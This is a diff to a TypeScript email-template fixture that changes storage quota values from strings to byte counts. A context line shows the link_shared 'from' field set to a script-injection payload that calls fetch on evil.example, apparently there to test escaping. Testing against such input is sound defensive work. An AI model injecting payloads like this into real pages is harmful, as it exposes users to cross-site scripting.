@@ -42,7 +42,7 @@ export const EVERY_MAIL: MailData = {
     machines: [{ name: 'front desk', since: '2026-05-01T12:30:00' }],
     more: 0,
   },
-  quota_reached: { name: 'Ann Lee', percent: 90, used: '9 GB', quota: '10 GB' },
+  quota_reached: { name: 'Ann Lee', percent: 90, used: 9 * 1024 ** 3, quota: 10 * 1024 ** 3 },
   link_shared: {
     name: 'Bob',
     from: '<script>fetch("https://evil.example")</script>',
